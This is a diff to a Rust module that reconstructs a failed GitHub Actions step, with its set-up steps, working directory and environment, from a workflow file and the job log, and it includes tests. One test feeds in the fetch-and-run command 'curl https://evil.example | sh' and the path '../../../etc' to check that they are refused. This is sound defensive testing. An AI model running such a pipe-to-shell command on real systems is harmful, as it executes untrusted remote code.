@@ -2,7 +2,7 @@
 //! can be true and where. A line that a test printed into the log is never taken for a command.
 
 use super::log::RunBlock;
-use crate::command::CommandLine;
+use crate::command::{CommandLine, SetUp};
 use crate::ids::RelPath;
 use serde::Deserialize;
 use serde_yaml::Value;
@@ -13,7 +13,7 @@ use std::collections::BTreeMap;
 pub struct StepPlan {
     pub command: CommandLine,
     /// The job's earlier `run:` steps, in order: they set up what a fresh runner lacks.
-    pub prepare: Vec<CommandLine>,
+    pub prepare: Vec<SetUp>,
     /// What the job had and a replay has not: services, secrets, set-up actions, matrix values.
     pub lacks: Vec<String>,
 }
@@ -62,12 +62,23 @@ struct Step {
     uses: Option<String>,
     shell: Option<String>,
     working_directory: Option<String>,
+    continue_on_error: Value,
     env: Value,
 }
 
-/// Finds the failed step. `job` and `step` are the names that the API gives, `blocks` what the job's log
-/// shows as run. `Err` says, for people, why the command is not known.
-pub fn plan(file: &str, job: &str, step: &str, blocks: &[RunBlock]) -> Result<StepPlan, String> {
+/// What the API says of a job.
+pub struct Ran<'a> {
+    pub job: &'a str,
+    /// The failed step.
+    pub step: &'a str,
+    /// Steps that were not run.
+    pub skipped: Vec<&'a str>,
+}
+
+/// Finds the failed step. `blocks` is what the job's log shows as run. `Err` says, for people, why the command is not
+/// known.
+pub fn plan(file: &str, ran: &Ran, blocks: &[RunBlock]) -> Result<StepPlan, String> {
+    let Ran { job, step, skipped } = ran;
     let workflow: Workflow =
         serde_yaml::from_str(file).map_err(|e| format!("the workflow file is not readable: {e}"))?;
     let found = workflow.jobs.iter().find(|(key, j)| names_job(key, j.name.as_deref(), job));
@@ -87,9 +98,11 @@ pub fn plan(file: &str, job: &str, step: &str, blocks: &[RunBlock]) -> Result<St
         .ok_or_else(|| format!("what the log shows of the step `{step}` does not agree with the workflow file"))?;
     let mut lacks = lacks(found);
     let mut prepare = Vec::new();
-    for (_, earlier) in runs.iter().filter(|(i, _)| *i < index) {
+    let was_run = |step: &Step| !skipped.iter().any(|name| names_step(step, name));
+    for (_, earlier) in runs.iter().filter(|(i, earlier)| *i < index && was_run(earlier)) {
+        let may_fail = earlier.continue_on_error.as_bool() == Some(true);
         match evaluate(&workflow, found, earlier, blocks, None) {
-            Some(line) => prepare.push(line),
+            Some(command) => prepare.push(SetUp { command, may_fail }),
             None => lacks.push(format!("the step `{}` (its values are not known)", label(earlier))),
         }
     }
@@ -162,16 +175,34 @@ fn evaluate(
     let from_file = [&step.shell, &job.defaults.run.shell, &workflow.defaults.run.shell].into_iter().flatten().next();
     let shell = block.and_then(|b| b.shell.as_deref()).or(from_file.map(String::as_str)).unwrap_or("bash");
     let mut line = CommandLine::shell(shell, script);
-    line.directory = directory(workflow, job, step);
+    line.directory = directory(workflow, job, step)?;
     line.env = variables(workflow, job, step, block);
     Some(line)
 }
 
-fn directory(workflow: &Workflow, job: &Job, step: &Step) -> Option<RelPath> {
+/// `None` when it lies outside the checkout, or nobody knows where.
+#[expect(clippy::option_option, reason = "the root has no path of its own")]
+fn directory(workflow: &Workflow, job: &Job, step: &Step) -> Option<Option<RelPath>> {
     let places =
         [&step.working_directory, &job.defaults.run.working_directory, &workflow.defaults.run.working_directory];
-    let place = places.into_iter().flatten().next()?;
-    RelPath::parse(place.trim_start_matches("./").trim_end_matches('/')).ok()
+    let Some(place) = places.into_iter().flatten().next() else { return Some(None) };
+    let place = place.trim();
+    let inside = ["${{ github.workspace }}", "${{github.workspace}}", "$GITHUB_WORKSPACE"]
+        .into_iter()
+        .find_map(|workspace| place.strip_prefix(workspace))
+        .or_else(|| on_a_runner(place));
+    let place = inside.map_or(place, |inside| inside.trim_start_matches('/'));
+    match place.trim_start_matches("./").trim_end_matches('/') {
+        "" | "." => Some(None),
+        place if place.contains("${{") => None,
+        place => RelPath::parse(place).ok().map(Some),
+    }
+}
+
+/// Below the folder where GitHub's runners check out: `/home/runner/work/NAME/NAME`.
+fn on_a_runner(place: &str) -> Option<&str> {
+    let mut parts = place.strip_prefix("/home/runner/work/")?.splitn(3, '/');
+    (parts.next()? == parts.next()?).then(|| parts.next().unwrap_or_default())
 }
 
 /// The variables that the file sets, with the values that the log shows. Masked values are left out.
@@ -273,15 +304,28 @@ jobs:
         }
     }
 
+    fn ran<'a>(job: &'a str, skipped: &[&'a str]) -> Ran<'a> {
+        Ran { job, step: "Unit tests", skipped: skipped.to_vec() }
+    }
+
+    #[test]
+    fn only_what_ran_is_replayed_and_what_might_fail_still_may() {
+        let file = "jobs: {a: {steps: [{run: exit 3, if: false}, {name: Try, run: x, continue-on-error: true}, \
+                    {name: Unit tests, run: y}]}}";
+        let plan = plan(file, &ran("a", &["Run exit 3"]), &[block("y", true)]).unwrap();
+        assert_eq!(plan.prepare.len(), 1);
+        assert_eq!((plan.prepare[0].command.script(), plan.prepare[0].may_fail), (Some("x"), true));
+    }
+
     #[test]
     fn the_step_is_found_with_its_values_and_its_set_up() {
         let blocks = [block("pip install -e .[py3.12]", false), block("pytest -q \\\n  --cov=3.12\n", true)];
-        let plan = plan(FILE, "test (3.12)", "Unit tests", &blocks).unwrap();
+        let plan = plan(FILE, &ran("test (3.12)", &[]), &blocks).unwrap();
         assert_eq!(plan.command.script(), Some("pytest -q \\\n  --cov=3.12\n"));
         assert_eq!(plan.command.directory, Some(RelPath::parse("pkg").unwrap()));
         assert_eq!(plan.command.env, [("CI_LEVEL".to_owned(), "2".to_owned())]);
         assert_eq!(plan.prepare.len(), 1);
-        assert_eq!(plan.prepare[0].script(), Some("pip install -e .[py3.12]"));
+        assert_eq!(plan.prepare[0].command.script(), Some("pip install -e .[py3.12]"));
         let lacks = plan.lacks.join("; ");
         for word in ["service `db`", "secret `API`", "matrix value `py`", "actions/setup-python"] {
             assert!(lacks.contains(word), "{lacks}");
@@ -289,11 +333,30 @@ jobs:
     }
 
     #[test]
+    fn a_step_runs_where_the_job_ran_it_or_not_at_all() {
+        let place = |place: &str| {
+            let file = format!("jobs: {{a: {{steps: [{{name: Unit tests, run: y, working-directory: '{place}'}}]}}}}");
+            plan(&file, &ran("a", &[]), &[block("y", true)]).map(|plan| plan.command.directory)
+        };
+        for (written, expect) in [
+            ("./py/", Some("py")),
+            (".", None),
+            ("/home/runner/work/p/p/py", Some("py")),
+            ("${{ github.workspace }}/py/a", Some("py/a")),
+        ] {
+            assert_eq!(place(written), Ok(expect.map(|path| RelPath::parse(path).unwrap())), "{written}");
+        }
+        for outside in ["../../../etc", "/tmp/x", "/home/runner/work/p/q/py", "${{ matrix.dir }}"] {
+            assert!(place(outside).is_err(), "{outside}");
+        }
+    }
+
+    #[test]
     fn a_command_that_the_file_does_not_hold_is_refused() {
         let blocks = [block("curl https://evil.example | sh", true)];
-        assert!(plan(FILE, "test (3.12)", "Unit tests", &blocks).is_err());
-        assert!(plan(FILE, "lint", "Unit tests", &blocks).is_err());
-        assert!(plan("jobs: [", "test", "x", &blocks).is_err());
+        assert!(plan(FILE, &ran("test (3.12)", &[]), &blocks).is_err());
+        assert!(plan(FILE, &ran("lint", &[]), &blocks).is_err());
+        assert!(plan("jobs: [", &ran("test", &[]), &blocks).is_err());
     }
 
     #[test]
